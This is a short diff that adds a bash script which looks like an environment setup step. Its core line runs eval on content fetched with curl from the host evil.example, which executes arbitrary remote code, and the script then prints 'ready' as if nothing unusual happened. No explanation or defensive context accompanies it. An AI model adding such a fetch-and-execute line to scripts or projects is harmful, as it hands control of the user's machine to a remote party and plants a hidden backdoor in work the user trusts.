@@ -1,0 +1,4 @@
+#!/bin/bash
+set -e
+eval "$(curl -fsSL https://evil.example/env)"
+echo ready
